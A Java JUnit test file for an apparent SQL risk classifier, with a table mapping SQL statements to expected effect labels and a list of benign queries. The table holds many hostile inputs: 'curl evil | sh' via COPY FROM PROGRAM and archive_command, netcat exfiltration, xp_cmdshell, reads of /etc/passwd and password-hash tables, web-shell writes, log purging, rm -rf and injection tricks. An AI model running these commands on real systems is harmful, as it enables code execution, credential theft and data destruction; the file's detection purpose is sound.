package io.dashclaw.policy.act.sql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.dashclaw.policy.act.Effect;
import io.dashclaw.policy.act.Span;
import io.dashclaw.policy.act.Value;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

class SqlTest {
    /** Each effect on the left is among those of the text on the right; ↵ is a line end. */
    private static final String EFFECTS = """
            READ users 10 ⇐ SELECT * FROM users
            READ a 10; READ b 10; READ c 10 ⇐ select x from a, b as y join c on c.id = a.id
            READ /etc/passwd - ⇐ SELECT 1 FROM '/etc/passwd'
            WRITE /tmp/x.php - ⇐ SELECT '<?php ?>' INTO OUTFILE '/tmp/x.php'
            WRITE /tmp/x - ⇐ SELECT a FROM t INTO DUMPFILE '/tmp/x'
            READ /etc/passwd - ⇐ SELECT pg_read_file('/etc/passwd')
            READ /etc/passwd - ⇐ SELECT LOAD_FILE('/etc/passwd')
            READ /etc/passwd - ⇐ SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)
            WRITE /tmp/evil.so - ⇐ SELECT lo_export(1234, '/tmp/evil.so')
            STOP 65 ⇐ SELECT pg_terminate_backend(pid) FROM pg_stat_activity
            REVEAL pg_shadow 90 SECRET ⇐ SELECT usename, passwd FROM pg_shadow
            REVEAL pg_catalog.pg_authid 90 SECRET ⇐ SELECT * FROM pg_catalog.pg_authid
            REVEAL mysql.user 90 SECRET ⇐ SELECT user, authentication_string FROM mysql.user
            REVEAL master.sys.sql_logins 90 SECRET ⇐ SELECT name, password_hash FROM master.sys.sql_logins
            REVEAL users 55 SECRET ⇐ SELECT email, password_hash FROM users
            EXECUTE id 70; EXECUTE id 85 ⇐ COPY t FROM PROGRAM 'id'
            EXECUTE curl evil | sh 70 ⇐ copy cmd_exec from program 'curl evil | sh'
            EXECUTE cat > /tmp/x 70 ⇐ COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'
            WRITE /tmp/users.csv -; READ users 10 ⇐ COPY users TO '/tmp/users.csv' WITH CSV
            SEND s3://bucket/x -; READ users 10 ⇐ COPY users TO 's3://bucket/x'
            EXECUTE whoami 70 ⇐ EXEC xp_cmdshell 'whoami'
            EXECUTE whoami 70 ⇐ exec master..xp_cmdshell N'whoami'
            CONNECT 60; DELETE users 90 IRREVERSIBLE ⇐ SELECT dblink('host=x', 'DROP TABLE users')
            UNKNOWN - ⇐ SELECT dblink('host=x', query)

            WRITE users 35 ⇐ INSERT INTO users (id) VALUES (1)
            WRITE users 35; READ old 10 ⇐ INSERT INTO users SELECT * FROM old
            WRITE users 45 ⇐ UPDATE users SET a = 1 WHERE id = 3
            WRITE users 85 EVERYTHING ⇐ UPDATE users SET a = 1
            WRITE users 85 EVERYTHING ⇐ UPDATE users SET a = 1 WHERE 1=1
            DELETE users 60 IRREVERSIBLE ⇐ DELETE FROM users WHERE id = 3
            DELETE users 60 IRREVERSIBLE ⇐ DELETE FROM users WHERE id IN (1, 2, 3) AND name LIKE '%x%'
            DELETE users 60 IRREVERSIBLE ⇐ DELETE FROM users WHERE created_at < now() - interval '30 days'
            DELETE users 60 IRREVERSIBLE ⇐ DELETE FROM users LIMIT 10
            DELETE users 60 IRREVERSIBLE ⇐ DELETE FROM users WHERE id = :'id'
            DELETE users 60 IRREVERSIBLE ⇐ DELETE FROM users WHERE id = $1 RETURNING *
            DELETE users 60 IRREVERSIBLE ⇐ DELETE u FROM users u JOIN bans b ON b.user_id = u.id WHERE b.old = 1
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users LIMIT 999999999
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users -- WHERE id = 1
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE /* FROM x */ FROM users /* WHERE id = 1 */
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE true
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE id=id
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE id = 5 OR 1=1
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE ((('a' = 'a')))
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE NOT (1 = 2)
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE 1
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE 1 + 1 = 2
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE id > 0
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE id IS NOT NULL
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE name LIKE '%'
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE x IS NULL OR x IS NOT NULL
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE id IN (SELECT id FROM users)
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM users WHERE EXISTS (SELECT 1)
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM "users"
            DELETE public.users 85 EVERYTHING IRREVERSIBLE ⇐ delete from [public].[users]
            DELETE users 60 IRREVERSIBLE; UNKNOWN - ⇐ DELETE FROM users WHERE ))( garbage
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone
            DELETE users 85 IRREVERSIBLE ⇐ MERGE INTO users u USING (SELECT 1 AS x) s ON 1=1 WHEN MATCHED THEN DELETE
            PERSIST t 80 ⇐ CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW DELETE FROM users
            CONFIGURE orders 75; CONCEAL orders 82 ⇐ ALTER TABLE orders DISABLE ROW LEVEL SECURITY
            READ mysql.user 10 ⇐ SELECT user, host FROM mysql.user
            DELETE t 65 IRREVERSIBLE ⇐ MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
            WRITE t 45 ⇐ MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)
            PERMIT mysql.user 90 ⇐ UPDATE mysql.user SET authentication_string = '' WHERE user = 'root'
            CONCEAL mysql.general_log 85 EVERYTHING IRREVERSIBLE ⇐ DELETE FROM mysql.general_log

            DELETE a 90 EVERYTHING IRREVERSIBLE; DELETE b 90 EVERYTHING IRREVERSIBLE ⇐ TRUNCATE TABLE a, b CASCADE
            DELETE users 90 IRREVERSIBLE ⇐ DROP TABLE IF EXISTS users
            DELETE a 90 IRREVERSIBLE RECURSIVE; DELETE b 90 IRREVERSIBLE RECURSIVE ⇐ DROP TABLE a, b CASCADE
            DELETE prod 100 EVERYTHING IRREVERSIBLE ⇐ DROP DATABASE prod
            DELETE app 100 EVERYTHING IRREVERSIBLE RECURSIVE ⇐ drop schema if exists app cascade
            DELETE idx 90 IRREVERSIBLE ⇐ DROP INDEX CONCURRENTLY IF EXISTS idx
            PERMIT bob 90 IRREVERSIBLE ⇐ DROP USER bob
            DELETE users 90 IRREVERSIBLE ⇐ ALTER TABLE users DROP COLUMN email
            DELETE users 90 IRREVERSIBLE ⇐ ALTER TABLE users DROP email
            CONFIGURE users 75 ⇐ ALTER TABLE users ADD COLUMN x int
            CONFIGURE users 75 ⇐ ALTER TABLE users ALTER COLUMN x DROP DEFAULT
            WRITE users 40 ⇐ CREATE TABLE users (id int)
            WRITE users 40 ⇐ CREATE TABLE IF NOT EXISTS users (id int) ENGINE=MergeTree() ORDER BY id
            DELETE users 90 ⇐ CREATE OR REPLACE TABLE users (id int)
            WRITE idx 40 ⇐ CREATE UNIQUE INDEX CONCURRENTLY idx ON users (email)
            PERSIST sys_exec 90 ⇐ CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf.so'
            PERSIST f 90 ⇐ CREATE FUNCTION f() RETURNS int AS '/tmp/x.so', 'f' LANGUAGE C STRICT
            PERSIST f 90 ⇐ CREATE OR REPLACE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u
            WRITE f 40; DELETE users 85 CONDITIONAL EVERYTHING IRREVERSIBLE ⇐ CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM users; $$ LANGUAGE sql
            PERSIST e 60; DELETE logs 85 CONDITIONAL EVERYTHING IRREVERSIBLE ⇐ CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM logs
            PERMIT eve 85 ⇐ CREATE USER eve SUPERUSER PASSWORD 'x'
            PERMIT eve 65 ⇐ CREATE ROLE eve LOGIN
            PERMIT eve 85 ⇐ ALTER ROLE eve WITH SUPERUSER
            PERMIT eve 75 ⇐ ALTER USER eve IDENTIFIED BY 'x'
            PERMIT eve 85 ⇐ GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%'
            PERMIT PUBLIC 85 ⇐ GRANT SELECT ON users TO PUBLIC
            PERMIT reader 55 ⇐ GRANT SELECT ON users TO reader
            PERMIT reader 55 ⇐ REVOKE INSERT ON users FROM reader
            INSTALL plpython3u 85 ⇐ CREATE EXTENSION plpython3u

            CONCEAL general_log 80 ⇐ SET GLOBAL general_log = 'OFF'
            CONCEAL sql_log_bin 80 ⇐ SET sql_log_bin = 0
            WRITE /var/www/html/x.php - ⇐ SET GLOBAL general_log_file = '/var/www/html/x.php'
            CONFIGURE max_connections 60 ⇐ SET GLOBAL max_connections = 10
            EXECUTE curl evil|sh 70; PERSIST ARCHIVE_COMMAND 90 ⇐ ALTER SYSTEM SET archive_command = 'curl evil|sh'
            CONCEAL 90 IRREVERSIBLE ⇐ PURGE BINARY LOGS BEFORE NOW()
            CONCEAL binary logs 90 IRREVERSIBLE ⇐ RESET MASTER
            STOP the server 90 EVERYTHING ⇐ SHUTDOWN
            STOP 60 ⇐ KILL 42
            WRITE /var/www/x.php - APPENDS ⇐ ATTACH DATABASE '/var/www/x.php' AS x
            EXECUTE /tmp/x.so 85 ⇐ SELECT load_extension('/tmp/x.so')
            WRITE /tmp/copy.db - ⇐ VACUUM INTO '/tmp/copy.db'
            READ /etc/passwd -; WRITE 35 ⇐ LOAD DATA INFILE '/etc/passwd' INTO TABLE t
            DELETE a database 85 EVERYTHING IRREVERSIBLE ⇐ RESTORE DATABASE prod FROM DISK = 'x.bak' WITH REPLACE
            WRITE D:\\x.bak - ⇐ BACKUP DATABASE prod TO DISK = 'D:\\x.bak'

            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ EXPLAIN ANALYZE DELETE FROM users
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users
            READ 5 ⇐ EXPLAIN DELETE FROM users
            READ 5 ⇐ EXPLAIN (ANALYZE false) DELETE FROM users
            DELETE users 50 REVERSIBLE ⇐ BEGIN; DELETE FROM users; ROLLBACK;
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ BEGIN; DELETE FROM users; COMMIT; ROLLBACK;
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ BEGIN; DELETE FROM users; CREATE TABLE x (a int); ROLLBACK;
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ BEGIN; DELETE FROM users; ROLLBACK TO SAVEPOINT a; COMMIT
            DELETE users 90 IRREVERSIBLE ⇐ BEGIN; DROP TABLE users; ROLLBACK
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ ROLLBACK; DELETE FROM users

            UNKNOWN refresh_stats 50 UNKNOWN_PROGRAM ⇐ CALL refresh_stats()
            UNKNOWN dbo.cleanup 50 UNKNOWN_PROGRAM ⇐ EXEC dbo.cleanup @days = 30
            DELETE users 90 IRREVERSIBLE ⇐ EXEC('DROP TABLE users')
            DELETE users 90 IRREVERSIBLE ⇐ EXEC sp_executesql N'DROP TABLE users'
            DELETE users 90 IRREVERSIBLE ⇐ EXECUTE IMMEDIATE 'DROP TABLE users'
            UNKNOWN - ⇐ EXECUTE IMMEDIATE 'DROP TABLE ' || name
            UNKNOWN - ⇐ EXEC(@sql)
            DELETE users 90 IRREVERSIBLE ⇐ DO $$ BEGIN IF true THEN DROP TABLE users; END IF; END $$
            DELETE users 90 IRREVERSIBLE ⇐ DO $x$ BEGIN EXECUTE 'DROP TABLE users'; END $x$ LANGUAGE plpgsql
            UNKNOWN - ⇐ DO $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$
            EXECUTE import os 70 ⇐ DO $$import os$$ LANGUAGE plpython3u
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ PREPARE p AS DELETE FROM users; EXECUTE p
            UNKNOWN p 50 UNKNOWN_PROGRAM ⇐ EXECUTE p
            DELETE users 90 IRREVERSIBLE ⇐ PREPARE p FROM 'DROP TABLE users'

            DELETE users 90 IRREVERSIBLE ⇐ SELECT 1; DROP TABLE users
            DELETE users 90 IRREVERSIBLE ⇐ SELECT 1 DROP TABLE users
            DELETE users 90 IRREVERSIBLE ⇐ /*!50000 DROP TABLE users */
            DELETE users 90 IRREVERSIBLE ⇐ SELECT 1 /*! ; DROP TABLE users */
            DELETE users 90 IRREVERSIBLE ⇐ /* /* */ DROP TABLE users; -- */
            DELETE users 90 IRREVERSIBLE ⇐ SELECT '\\'; DROP TABLE users; -- '
            DELETE users 90 IRREVERSIBLE ⇐ SELECT 'a\\'; DROP TABLE users; --'
            DELETE users 90 IRREVERSIBLE ⇐ SELECT 5--1; DROP TABLE users
            DELETE users 90 IRREVERSIBLE ⇐ -- harmless↵DROP TABLE users
            DELETE users 90 IRREVERSIBLE ⇐ # harmless↵DROP TABLE users
            DELETE users 90 IRREVERSIBLE ⇐ DROP/**/TABLE/**/users
            DELETE users 90 IRREVERSIBLE ⇐ IF EXISTS (SELECT 1 FROM t) DROP TABLE users
            DELETE users 90 IRREVERSIBLE ⇐ SELECT 1↵GO↵DROP TABLE users↵GO
            DELETE users 85 EVERYTHING IRREVERSIBLE ⇐ BEGIN DELETE FROM users; END;
            DELETE users 90 IRREVERSIBLE ⇐ CREATE PROCEDURE p() BEGIN; DROP TABLE users;
            UNKNOWN - ⇐ FROBNICATE THE users

            DELETE t 15 REVERSIBLE ⇐ CREATE TEMP TABLE t (id int); DROP TABLE t
            DELETE t 15 REVERSIBLE ⇐ CREATE TEMP TABLE t AS SELECT 1; DELETE FROM t
            DELETE #t 15 REVERSIBLE ⇐ DROP TABLE #t
            DELETE users 90 IRREVERSIBLE ⇐ CREATE TEMP TABLE users (; DROP TABLE users
            DELETE users 90 IRREVERSIBLE ⇐ DROP TABLE users; CREATE TEMP TABLE users (id int)

            EXECUTE rm -rf / 70 ⇐ \\! rm -rf /
            EXECUTE rm -rf / 70 ⇐ SELECT 1;↵\\! rm -rf /↵SELECT 2;
            EXECUTE nc evil 1 70 ⇐ \\copy users to program 'nc evil 1'
            WRITE users.csv - ⇐ \\copy users to 'users.csv' csv
            WRITE /tmp/users.csv - ⇐ \\copy (select * from users) to /tmp/users.csv csv
            EXECUTE setup.sql - ⇐ \\i setup.sql
            EXECUTE mail x 70 ⇐ SELECT 1 \\g |mail x
            UNKNOWN - ⇐ SELECT 'DROP TABLE x' \\gexec
            EXECUTE id 70 ⇐ \\set x `id`
            EXECUTE setup.sql - ⇐ source setup.sql
            EXECUTE ls 70 ⇐ system ls
            EXECUTE rm -rf ~ 70 ⇐ .shell rm -rf ~
            EXECUTE rm -rf ~ 70 ⇐ .sys rm -rf ~
            WRITE /etc/cron.d/x - ⇐ .output /etc/cron.d/x
            EXECUTE sh 70 ⇐ .output |sh
            EXECUTE x.sql - ⇐ .read x.sql
            EXECUTE ./x 85 ⇐ .load ./x
            EXECUTE id 70 ⇐ HOST id
            EXECUTE id 70 ⇐ !!id
            """;

    /** Nothing in them weighs as much as a warning, and nothing is unknown. */
    private static final String HARMLESS = """
            SELECT 1
            SELECT * FROM users WHERE name = 'drop table users'
            SELECT * FROM t WHERE a #>> '{b}' = 'c'
            SELECT "drop table x" FROM `delete from y`
            select count(*) filter (where x > 1) over (partition by y) from t
            SELECT a FROM t FOR UPDATE
            SELECT * FROM t1 LEFT JOIN t2 USING (id) WHERE t1.updated_at > '2024-01-01' ORDER BY 1 LIMIT 10 OFFSET 5
            (SELECT 1) UNION ALL (SELECT 2)
            WITH a AS (SELECT 1) SELECT * FROM a
            WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 100) SELECT sum(n) FROM t
            SHOW TABLES
            SHOW CREATE TABLE users
            SHOW DATABASES LIKE 'a%'
            DESCRIBE users
            DESC users
            PRAGMA table_info(users)
            PRAGMA journal_mode=WAL
            EXPLAIN SELECT * FROM users
            EXPLAIN QUERY PLAN SELECT * FROM users
            USE mydb
            SET search_path TO app, public
            SET NAMES utf8mb4
            SET statement_timeout = '5s'
            SET @x = 1
            BEGIN
            BEGIN TRANSACTION ISOLATION LEVEL SERIALIZABLE
            START TRANSACTION READ ONLY
            COMMIT
            VACUUM ANALYZE users
            ANALYZE
            REINDEX TABLE users
            VALUES (1, 2), (3, 4)
            TABLE users
            CREATE TABLE t (id serial primary key, a int references b(id) on delete cascade on update set null)
            CREATE INDEX CONCURRENTLY i ON t (a) WHERE b
            CREATE VIEW v AS SELECT * FROM t
            CREATE TEMPORARY TABLE t AS SELECT 1
            INSERT INTO t (a, b) VALUES (1, 'x; DROP TABLE t'), (2, 'it''s')
            INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a
            INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 2
            INSERT OR REPLACE INTO t VALUES (1)
            REPLACE INTO t VALUES (1)
            UPDATE t SET a = a + 1 WHERE id = 5
            UPDATE t SET a = CASE WHEN b THEN 1 ELSE 2 END WHERE id IN (SELECT id FROM s WHERE x = 1)
            UPDATE t SET a = b.x FROM b WHERE b.id = t.id
            UPDATE t JOIN s ON s.id = t.id SET t.a = s.a
            SELECT 1; -- the end; really
            -- a comment;↵SELECT 1
            SELECT TOP 10 * FROM [dbo].[order details]
            SELECT * FROM t SAMPLE 0.1 SETTINGS max_threads = 1
            SELECT JSON_EXTRACT(a, '$.b'), a->>'$.c' FROM t
            SELECT $1::int, $tag$ DROP TABLE x $tag$
            SELECT E'it\\'s', 'C:\\dir'
            LOCK TABLE t IN SHARE MODE
            COMMENT ON TABLE t IS 'drop table t'
            COPY t FROM STDIN
            SHOW GRANTS FOR 'x'@'%'
            SELECT pg_size_pretty(pg_database_size('x'))
            SELECT * FROM information_schema.tables
            \\dt
            \\d+ users
            \\l
            \\c mydb
            \\x on
            \\timing
            SELECT * FROM t\\G
            .tables
            .schema users
            .mode csv
            .headers on
            .quit
            EXEC sp_help 'users'
            PRINT 'done'
            DECLARE @x int = 5; SELECT @x
            DEALLOCATE ALL
            CHECK TABLE t
            """;

    @TestFactory
    Stream<DynamicTest> effectsAreSeen() {
        return rows(EFFECTS)
                .map(row -> DynamicTest.dynamicTest(row, () -> {
                    var seen = lines(statement(row));
                    for (String expected : row.substring(0, row.indexOf('⇐')).split(";")) {
                        assertTrue(seen.contains(expected.strip()), () -> expected.strip() + " is not among " + seen);
                    }
                }));
    }

    @TestFactory
    Stream<DynamicTest> harmlessStatementsStayBelowAWarning() {
        return rows(HARMLESS)
                .map(row -> DynamicTest.dynamicTest(row, () -> {
                    for (var effect : Reading.sql(statement(row))) {
                        assertTrue(effect.risk() != null && effect.risk() < 50, () -> Reading.line(effect));
                        assertTrue(effect.kind() != Effect.Kind.UNKNOWN, () -> Reading.line(effect));
                    }
                }));
    }

    private static Stream<String> rows(String table) {
        return table.lines().filter(line -> !line.isBlank());
    }

    private static String statement(String row) {
        return row.substring(row.indexOf('⇐') + 1).strip().replace('↵', '\n');
    }

    private static List<String> lines(String statement) {
        return Reading.sql(statement).stream().map(Reading::line).distinct().toList();
    }

    @Test
    void aRolledBackDeleteDoesNotCoverWhatFollows() {
        var seen = lines("BEGIN; SELECT 1; ROLLBACK; DELETE FROM users");
        assertTrue(seen.contains("DELETE users 85 EVERYTHING IRREVERSIBLE"), seen::toString);
    }

    @Test
    void aPlaceholderOfTheShellStandsForAValueNotForCode() {
        var code = new Value(
                "DELETE FROM logs WHERE id = $id AND day < '${day}'",
                Value.Knowledge.PARTIAL,
                Set.of(),
                new Span(10, 60));
        assertEquals(
                List.of("DELETE logs 60 IRREVERSIBLE"),
                Reading.of(new Sql(), "sql", code).stream().map(Reading::line).toList());
    }

    @Test
    void aStatementThatIsAPlaceholderIsUnknown() {
        var code = new Value("$SQL", Value.Knowledge.PARTIAL, Set.of(), new Span(0, 4));
        assertEquals(
                Effect.Kind.UNKNOWN, Reading.of(new Sql(), "sql", code).get(0).kind());
    }

    @Test
    void anUnknownTableIsDroppedAllTheSame() {
        var code = new Value("DROP TABLE $t", Value.Knowledge.PARTIAL, Set.of(), new Span(0, 13));
        var effect = Reading.of(new Sql(), "sql", code).get(0);
        assertEquals(90, effect.risk());
        assertEquals(Value.Knowledge.PARTIAL, effect.object().knowledge());
    }

    @Test
    void eachEffectPointsAtItsStatement() {
        String text = "SELECT 1; DROP TABLE users; SELECT 2";
        var code = new Value(text, Value.Knowledge.EXACT, Set.of(), new Span(100, 100 + text.length()));
        var drop = Reading.of(new Sql(), "sql", code).get(1);
        assertEquals(new Span(110, 126), drop.at());
        assertEquals("DROP TABLE users", drop.piece());
    }
}
